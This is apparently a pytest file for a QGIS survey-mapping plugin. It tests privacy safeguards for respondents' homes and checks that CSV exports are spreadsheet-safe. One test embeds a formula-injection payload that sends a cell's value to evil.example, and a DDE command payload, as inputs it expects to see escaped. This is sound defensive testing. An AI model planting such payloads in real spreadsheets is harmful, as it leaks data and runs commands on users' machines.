"""Inside a real headless QGIS: ``qetgeo:exportwebmap`` and ``qetgeo:proximity`` refuse a
layer of respondents, or one made from their homes (buffered, fields dropped), as a
background or a service layer; ``qetgeo:runpipeline`` gives them the respondents."""

from __future__ import annotations

import subprocess
import sys
import zipfile

import pytest
from plugin_testing import ROOT
from qgis.core import QgsProcessingException, QgsVectorLayer
from test_importsurvey import HEADERS

SAMPLE = ROOT / "sample_data"
REFUSED_SERVICE = ("refused as a service layer", "refusée comme couche de services")
REFUSED_BACKGROUND = ("refused as a web map background", "refusée comme fond de la carte web")
BUFFER = """
import sys
import geopandas as gpd
homes = gpd.read_file(sys.argv[1])
out = gpd.GeoDataFrame(geometry=homes.to_crs("EPSG:2154").buffer(float(sys.argv[3])), crs=2154)
out.to_file(sys.argv[2], layer="maisons", driver="GPKG")
"""


def _run(algorithm, parameters):
    import processing

    return processing.run(algorithm, parameters)


@pytest.fixture(scope="module")
def job(plugin, tmp_path_factory, cli_sample_job):
    """The sample job run by the command line, and the homes buffered by 15 m with every
    field dropped (what a user makes in QGIS in two clicks)."""
    out, _ = cli_sample_job
    homes = tmp_path_factory.mktemp("job") / "maisons_15m.gpkg"
    subprocess.run([sys.executable, "-c", BUFFER, str(out / "respondents.gpkg"), str(homes), "15"],
                   check=True, cwd=ROOT)  # fmt: skip
    return out, homes


def _refused(caught, words) -> bool:
    return any(w in str(caught.value) for w in words)


def test_exportwebmap_refuses_respondents_and_their_homes(job, tmp_path):
    out, homes = job
    respondents = f"{out / 'respondents.gpkg'}|layername=respondents"
    base = {"AREA_MAP": str(out / "areas.gpkg"), "OUTPUT": str(tmp_path / "carte.html")}
    with pytest.raises(QgsProcessingException) as caught:
        _run("qetgeo:exportwebmap", {**base, "BACKGROUND": [respondents]})
    assert _refused(caught, REFUSED_BACKGROUND), str(caught.value)
    assert "respondents" in str(caught.value)
    with pytest.raises(QgsProcessingException) as caught:
        _run(
            "qetgeo:exportwebmap", {**base, "BACKGROUND": [str(homes)], "RESPONDENTS": respondents}
        )
    assert _refused(caught, REFUSED_BACKGROUND) and "5 m" in str(caught.value)
    assert not (tmp_path / "carte.html").exists()
    # a layer of the place passes, with the respondents known
    result = _run("qetgeo:exportwebmap", {**base, "RESPONDENTS": respondents,
                                          "BACKGROUND": [f"{SAMPLE / 'quartier.gpkg'}|layername=perimetre"]})  # fmt: skip
    assert (tmp_path / "carte.html").is_file() and result["OUTPUT"]


def test_proximity_refuses_respondents_and_their_homes(job, tmp_path):
    out, homes = job
    respondents = f"{out / 'respondents.gpkg'}|layername=respondents"
    target = tmp_path / "proximite.gpkg"
    base = {"AREAS": f"{SAMPLE / 'quartier.gpkg'}|layername=iris", "OUTPUT": str(target)}
    with pytest.raises(QgsProcessingException) as caught:
        _run("qetgeo:proximity", {**base, "SERVICES": [respondents]})
    assert _refused(caught, REFUSED_SERVICE), str(caught.value)
    with pytest.raises(QgsProcessingException) as caught:
        _run("qetgeo:proximity", {**base, "SERVICES": [str(homes)], "RESPONDENTS": respondents})
    assert _refused(caught, REFUSED_SERVICE) and "5 m" in str(caught.value)
    shops = f"{SAMPLE / 'quartier.gpkg'}|layername=marches"
    assert not target.exists()
    _run("qetgeo:proximity", {**base, "SERVICES": [shops], "RESPONDENTS": respondents})
    assert QgsVectorLayer(str(target), "p", "ogr").featureCount() == 12


def test_runpipeline_outputs_name_no_folder_of_the_organiser(plugin, tmp_path):
    """The whole job inside QGIS from a user's folder: no output names it (GeoPackages
    dumped, the project unzipped, PDFs through pdftotext)."""
    import shutil
    import sqlite3
    import zipfile

    inputs = tmp_path / "Mes Documents" / "Enquête Tilleuls"
    shutil.copytree(SAMPLE, inputs)
    out = tmp_path / "Dossier-Orga" / "sorties"
    _run("qetgeo:runpipeline", {"CONFIG": str(inputs / "qet-geo.toml"), "OUTPUT_FOLDER": str(out)})
    texts = {}
    for path in sorted(out.iterdir()):
        if path.suffix == ".gpkg":
            with sqlite3.connect(path) as db:
                texts[path.name] = "\n".join(db.iterdump())
        elif path.suffix == ".qgz":
            with zipfile.ZipFile(path) as archive:
                texts[path.name] = "\n".join(
                    archive.read(n).decode("utf-8", "replace") for n in archive.namelist()
                )
        elif path.suffix == ".pdf":
            texts[path.name] = subprocess.run(
                ["pdftotext", str(path), "-"], capture_output=True, text=True, check=True
            ).stdout + path.read_bytes().decode("latin-1")
        else:
            texts[path.name] = path.read_bytes().decode("utf-8", "replace")
    assert {"areas.gpkg", "carte.html", "projet.qgz", "respondents.gpkg"} <= set(texts)
    for word in ("Mes Documents", "Enquête Tilleuls", "Dossier-Orga", str(tmp_path)):
        assert not [name for name, text in texts.items() if word in text], word


def test_importsurvey_csv_outputs_are_safe_in_a_spreadsheet(plugin, tmp_path):
    """Rejected rows and respondents written by QGIS to CSV (as qetgeo:runpipeline writes
    rejects.csv) get the library's neutralised text cells."""
    import csv

    hyperlink = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
    dde = "-2+3+cmd|' /C calc'!A0"
    header = ["Identifiant", *HEADERS]
    answers = ["Tous les repas ou presque", "Voiture individuelle", "Bureautique, Internet",
               "Mélange occasion/neuf", "1 à 3", "Gaz"]  # fmt: skip
    rows = [[str(i), *answers] for i in range(1, 6)]
    rows[1][1] = hyperlink  # an unknown answer: the row is rejected, its text kept
    rows[2][0] = dde  # an id like a formula: the row is accepted
    survey = tmp_path / "enquete.tsv"
    survey.write_text("\n".join("\t".join(r) for r in [header, *rows]) + "\n", encoding="utf-8")
    _run("qetgeo:importsurvey", {"INPUT": str(survey), "LOCATION": 5,  # none
                                 "OUTPUT": str(tmp_path / "r.csv"),
                                 "REJECTS": str(tmp_path / "rejects.csv")})  # fmt: skip

    def cells(path):
        with open(path, encoding="utf-8-sig", newline="") as handle:
            return {c for row in csv.reader(handle) for c in row}

    assert "'" + hyperlink in cells(tmp_path / "rejects.csv")
    assert hyperlink not in cells(tmp_path / "rejects.csv")
    assert "'" + dde in cells(tmp_path / "r.csv") and dde not in cells(tmp_path / "r.csv")


REFUSED_POPULATION = ("refused as a population layer", "refusée comme couche de population")


@pytest.mark.parametrize("algorithm", ["qetgeo:proximity", "qetgeo:transitaccess"])
def test_respondents_are_no_population_layer(job, tmp_path, algorithm):
    """Weighted by respondents, a small area's centroid is a home: the respondents file is
    refused as the population layer, as the command line's --population refuses it."""
    out, _homes = job
    respondents = f"{out / 'respondents.gpkg'}|layername=respondents"
    target = tmp_path / "out.gpkg"
    base = {"AREAS": f"{SAMPLE / 'quartier.gpkg'}|layername=iris", "POPULATION": respondents,
            "POPULATION_FIELD": "weight"}  # fmt: skip
    if algorithm == "qetgeo:proximity":
        parameters = {**base, "SERVICES": [f"{SAMPLE / 'quartier.gpkg'}|layername=commerces_alimentaires"],
                      "OUTPUT": str(target)}  # fmt: skip
    else:
        feed = tmp_path / "gtfs.zip"
        with zipfile.ZipFile(feed, "w") as archive:
            for file in (SAMPLE / "gtfs").iterdir():
                archive.write(file, file.name)
        parameters = {**base, "GTFS": str(feed), "OUTPUT_AREAS": str(target),
                      "OUTPUT_GRID": "TEMPORARY_OUTPUT"}  # fmt: skip
    with pytest.raises(QgsProcessingException) as caught:
        _run(algorithm, parameters)
    assert _refused(caught, REFUSED_POPULATION), str(caught.value)
    assert not target.exists()
